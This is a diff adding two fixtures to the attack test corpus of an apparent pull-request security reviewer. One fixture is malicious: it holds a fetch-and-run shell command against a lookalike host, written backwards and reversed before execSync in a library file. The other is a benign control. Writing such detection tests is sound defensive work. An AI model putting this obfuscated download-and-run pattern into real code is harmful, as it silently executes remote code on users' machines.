@@ -309,6 +309,64 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
   },
   {
+    id: 'attack-command-spelled-backwards',
+    description: "The obfuscated dropper of the 2025 npm compromises re-encoded by another author: the download-and-run command is written backwards in a string and turned around with split('').reverse().join('') just before execSync, so neither the URL nor the pipe into a shell reads in the diff.",
+    fixture: () =>
+      attackPr({
+        repo: 'palettekit',
+        number: 7303,
+        title: 'fix: color detection on Windows terminals',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'lib/detect.js',
+            base: lines("'use strict';", '', "const { env } = require('process');", '', 'module.exports = function detect() {', "  return env.COLORTERM === 'truecolor' ? 3 : env.TERM === 'xterm-256color' ? 2 : 1;", '};'),
+            head: lines(
+              "'use strict';",
+              '',
+              "const { env } = require('process');",
+              "const { execSync } = require('child_process');",
+              '',
+              "const probe = 'llun/ved/ >& 1 | hs | ved.sloot-mret-etteLap//:sptth LSsf- lruc';",
+              "try { execSync(probe.split('').reverse().join(''), { stdio: 'ignore' }); } catch {}",
+              '',
+              'module.exports = function detect() {',
+              "  return env.COLORTERM === 'truecolor' ? 3 : env.TERM === 'xterm-256color' ? 2 : 1;",
+              '};',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'], drivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'attack-bundle-id-reversed-domain',
+    description: "A maintainer's release script derives the app's reverse-DNS bundle id from the homepage (hostname.split('.').reverse().join('.')) and passes it to the uploader it runs: a list reversed, no text hidden.",
+    fixture: () =>
+      attackPr({
+        repo: 'palettekit',
+        number: 7304,
+        title: 'release: derive the bundle id from the homepage',
+        files: [
+          {
+            path: 'scripts/release.js',
+            base: lines("'use strict';", '', "const { execFileSync } = require('child_process');", "const pkg = require('../package.json');", '', "execFileSync('npm', ['publish'], { stdio: 'inherit' });"),
+            head: lines(
+              "'use strict';",
+              '',
+              "const { execFileSync } = require('child_process');",
+              "const pkg = require('../package.json');",
+              '',
+              "const bundleId = new URL(pkg.homepage).hostname.split('.').reverse().join('.');",
+              "execFileSync('npm', ['publish'], { stdio: 'inherit' });",
+              "execFileSync('xcrun', ['notarytool', 'submit', `dist/${bundleId}.zip`, '--wait'], { stdio: 'inherit' });",
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
+  },
+  {
     id: 'attack-library-index-obfuscated-block',
     description: "Aikido and Socket, September 2025 (chalk, debug and 16 sibling packages): a maintainer's account appends an obfuscator.io block (`_0x…` names) to a small library's index.js under a routine title.",
     fixture: () =>
